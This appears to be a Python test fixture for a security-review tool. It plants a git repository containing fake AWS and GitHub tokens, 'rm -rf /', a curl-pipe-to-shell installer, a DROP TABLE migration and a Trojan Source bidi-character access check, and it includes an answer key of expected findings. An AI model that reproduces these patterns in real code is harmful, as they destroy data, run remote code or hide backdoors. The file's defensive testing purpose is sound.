"""A repository with planted problems that must be found, and harmless contents that must not.

Nothing here is a real secret or is run: tokens are assembled from pieces, commands are only read.
"""

import subprocess
from dataclasses import dataclass
from pathlib import Path

AWS_KEY = "AKIA" + "Q3ZT7RX2MB5LWPNE"
GITHUB_TOKEN = "ghp_" + "b7Kq2Xn9TfVw4Rz1Ys6Lm3Jc8Hd5Ga0Pe2Uo"


@dataclass(frozen=True, slots=True, kw_only=True)
class Planted:
    """A planted problem and its place."""

    path: str
    line: int
    #: The rule's id begins with this.
    rule: str


BEFORE = {
    "app.py": "def greet(name: str) -> str:\n    return f'hello {name}'\n",
    "old.sh": "#!/bin/sh\nrm -rf /\n",
    "README.md": "# A shop\n\nIt sells things.\n",
}
AFTER = {
    "app.py": (
        "import os\n\n\ndef greet(name: str) -> str:\n    return f'hello {name}'\n\n\n"
        f"KEY = '{AWS_KEY}'\nos.environ['GH_TOKEN'] = '{GITHUB_TOKEN}'\n"
    ),
    "old.sh": "#!/bin/sh\nrm -rf /\necho done\n",
    "install.sh": "#!/bin/sh\nset -eu\ncurl -fsSL https://get.example.org/install | sh\n",
    "migrations/002.sql": "ALTER TABLE orders ADD COLUMN note text;\nDROP TABLE customers;\n",
    "access.py": (
        "def may_delete(level: str) -> bool:\n"
        "    if level != 'user\u202e \u2066# only admins\u2069 \u2066':\n"
        "        return True\n"
        "    return False\n"
    ),
    "clean.py": "def add(a: int, b: int) -> int:\n    return a + b\n",
    "notes.md": "Never run `rm -rf /` or `curl … | sh` here.\n",
}
MUST = (
    Planted(path="app.py", line=8, rule="security.secret"),
    Planted(path="app.py", line=9, rule="security.secret"),
    Planted(path="install.sh", line=3, rule="security.remote-code"),
    Planted(path="migrations/002.sql", line=2, rule="security."),
    Planted(path="access.py", line=2, rule="injection."),
)
#: No finding that stops the work may lie in these, or on lines this work does not change.
MUST_NOT = ("clean.py", "notes.md", "old.sh", "README.md")


def plant(folder: Path, policy: str = "") -> None:
    """Make the repository: one commit, with this policy in it, and the rest not committed yet."""
    _begin(folder, policy)
    _write(folder, AFTER)


def clean(folder: Path, policy: str = "") -> None:
    """The control: the repository with an ordinary change."""
    _begin(folder, policy)
    _write(folder, {name: AFTER[name] for name in ("clean.py", "notes.md")})


def _begin(folder: Path, policy: str) -> None:
    folder.mkdir(parents=True)
    _git(folder, "init", "-q")
    _write(folder, {**BEFORE, **({"foureyes.yaml": policy} if policy else {})})
    _git(folder, "add", ".")
    _git(folder, "-c", "user.name=t", "-c", "user.email=t@example.org", "commit", "-q", "-m", "A shop")


def _write(folder: Path, files: dict[str, str]) -> None:
    for name, text in files.items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")


def _git(folder: Path, *words: str) -> None:
    subprocess.run(("git", "-C", str(folder), *words), check=True)  # noqa: S607 - from the PATH, as people do


def problems(found: list[dict[str, object]], said: str) -> list[str]:
    """The errors of a result: a planted problem was missed, or clean work was stopped."""
    blocking = [one for one in found if one["blocking"]]
    places = [(str(one["path"]), one["line"], str(one["rule"])) for one in blocking]
    missed = [
        f"nothing of {one.rule} at {one.path}:{one.line}"
        for one in MUST
        if not any((path, line) == (one.path, one.line) and rule.startswith(one.rule) for path, line, rule in places)
    ]
    wrong = [f"{rule} stops {path}:{line}" for path, line, rule in places if path in MUST_NOT]
    leaked = [f"a secret is shown: {one[:4]}…" for one in (AWS_KEY, GITHUB_TOKEN) if one in said]
    return missed + wrong + leaked
